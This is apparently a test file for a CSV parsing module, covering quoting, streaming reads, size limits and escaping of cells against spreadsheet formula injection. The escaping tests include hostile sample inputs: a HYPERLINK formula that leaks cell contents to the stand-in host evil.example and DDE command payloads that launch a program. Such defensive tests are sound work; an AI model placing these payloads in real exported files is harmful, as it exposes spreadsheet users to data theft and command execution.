import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { CsvReader, csvCell, guessDelimiter, inertCell, parseCsv, restoreCell } from './csv.js';

describe('parseCsv', () => {
  it.each([
    [
      'a,b\r\n1,2\r\n',
      [
        ['a', 'b'],
        ['1', '2'],
      ],
    ],
    [
      'a,b\n1,2',
      [
        ['a', 'b'],
        ['1', '2'],
      ],
    ],
    ['"x, y","say ""hi"""\n', [['x, y', 'say "hi"']]],
    [
      '"multi\nline",2\n3,4',
      [
        ['multi\nline', '2'],
        ['3', '4'],
      ],
    ],
    ['a,,\n', [['a', '', '']]],
    ['""\n', [['']]],
    ['ab"c,d\n', [['ab"c', 'd']]],
    ['\uFEFFip\n', [['ip']]],
  ])('splits %j', (text, expected) => {
    expect(parseCsv(text, ',').records.map((r) => r.fields)).toEqual(expected);
  });

  it('counts rows like a spreadsheet (blank rows count, embedded newlines do not)', () => {
    const { records } = parseCsv('h\n\n"a\nb"\nc\n', ',');
    expect(records.map((r) => [r.row, r.line])).toEqual([
      [1, 1],
      [3, 3],
      [4, 5],
    ]);
  });

  it('reports an unterminated quote', () => {
    expect(parseCsv('h\n"open,1\n2\n', ',').problems).toEqual([
      { row: 2, reason: 'quoted field opened on line 2 never closes' },
    ]);
  });

  it.each([
    ['ip;mac;model', ';'],
    ['ip\tmac', '\t'],
    ['ip,mac', ','],
    ['ip', ','],
  ])('guesses the delimiter of %j', (line, d) => {
    expect(guessDelimiter(line)).toBe(d);
  });

  it('never throws and stays linear', () => {
    fc.assert(fc.property(fc.string({ unit: 'binary', maxLength: 2000 }), (t) => void parseCsv(t)));
    parseCsv('"'.repeat(300_000));
    parseCsv(','.repeat(300_000));
    parseCsv('\n'.repeat(300_000));
  });
});

describe('CsvReader', () => {
  it('reads text cut anywhere (inside quotes, between CR and LF) as parseCsv reads it whole', () => {
    const piece = fc.constantFrom(
      'a',
      'b',
      ',',
      ';',
      '"',
      '""',
      '\r',
      '\n',
      '\r\n',
      ' ',
      'é',
      '\uFEFF',
    );
    fc.assert(
      fc.property(
        fc.array(piece, { maxLength: 60 }).map((p) => p.join('')),
        fc.array(fc.nat(), { maxLength: 8 }),
        (text, cuts) => {
          const at = [...new Set(cuts.map((c) => c % (text.length + 1)))].sort((a, b) => a - b);
          const reader = new CsvReader(',');
          const records = [];
          let from = 0;
          for (const to of [...at, text.length]) {
            records.push(...reader.push(text.slice(from, to)));
            from = to;
          }
          const end = reader.end();
          records.push(...end.records);
          expect({ records, problems: end.problems }).toEqual(parseCsv(text, ','));
        },
      ),
      { numRuns: 500 },
    );
  });

  it('holds only the record being read: a million rows in 64 KiB pieces', () => {
    const row = '10.0.0.1,44:19:b6:00:00:01,"Lobby, north",Hikvision\r\n';
    const chunk = row.repeat(Math.floor(65536 / row.length));
    const reader = new CsvReader(',');
    let n = 0;
    for (let read = 0; read < 1_000_000; read += Math.floor(65536 / row.length))
      n += reader.push(chunk).length;
    n += reader.end().records.length;
    expect(n).toBeGreaterThanOrEqual(1_000_000);
  });
});

describe('CsvReader limits', () => {
  it('skips a record longer than the limit without holding it, and reads on', () => {
    const reader = new CsvReader(',', 100);
    const records = [
      ...reader.push('a,b\n'),
      ...reader.push('x'.repeat(60)),
      ...reader.push(`${'y'.repeat(60)},z\n"q`),
      ...reader.push(`${','.repeat(200)}"\nc,d\n`),
    ];
    const end = reader.end();
    expect([...records, ...end.records].map((r) => [r.row, r.fields])).toEqual([
      [1, ['a', 'b']],
      [4, ['c', 'd']],
    ]);
    expect(end.problems).toEqual([
      { row: 2, reason: 'longer than 100 characters; skipped' },
      { row: 3, reason: 'longer than 100 characters; skipped' },
    ]);
  });

  it('never holds more than the limit of a file with no line ends (a device read as CSV)', () => {
    const reader = new CsvReader(',', 1024);
    const zeros = '\u0000'.repeat(64 * 1024);
    for (let i = 0; i < 200; i++) expect(reader.push(zeros)).toEqual([]);
    expect(reader.end().problems).toEqual([
      { row: 1, reason: 'longer than 1024 characters; skipped' },
    ]);
  });
});

describe('csvCell: no cell runs as a spreadsheet formula', () => {
  it.each([
    [
      '=HYPERLINK("http://evil.example/?x="&A1,"click")',
      `"'=HYPERLINK(""http://evil.example/?x=""&A1,""click"")"`,
    ],
    ["+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"],
    ["@SUM(1+9)*cmd|' /C calc'!A0", "'@SUM(1+9)*cmd|' /C calc'!A0"],
    ['-2+3', "'-2+3"],
    ['\t=1+1', "'\t=1+1"],
    ['\r=1+1', `"'\r=1+1"`],
    ["'=already", "''=already"],
    ['-77.5', '-77.5'],
    ['+44', '+44'],
    ['1e-3', '1e-3'],
    ['DS-2CD2143G0-I', 'DS-2CD2143G0-I'],
    ['plain text', 'plain text'],
    ['', ''],
  ])('%j -> %s', (text, cell) => {
    expect(csvCell(text)).toBe(cell);
  });

  it('restoreCell undoes inertCell for any text', () => {
    fc.assert(
      fc.property(fc.string(), (t) => restoreCell(inertCell(t)) === t),
      { numRuns: 1000 },
    );
    for (const t of ["'=x", "''=x", '=x', "'plain", '-5'])
      expect(restoreCell(inertCell(t))).toBe(t);
  });
});
